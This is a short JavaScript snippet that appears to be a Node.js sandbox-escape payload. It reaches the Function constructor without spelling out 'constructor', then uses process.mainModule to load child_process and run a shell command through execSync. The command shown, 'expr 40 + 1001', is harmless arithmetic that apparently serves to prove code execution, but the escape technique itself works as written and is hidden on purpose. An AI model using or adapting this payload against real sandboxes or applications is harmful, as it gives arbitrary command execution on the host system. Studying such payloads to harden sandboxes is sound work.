const k=Object.getOwnPropertyNames(Object.prototype)[0]; const a=''[k]; const F=a[k];
new F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
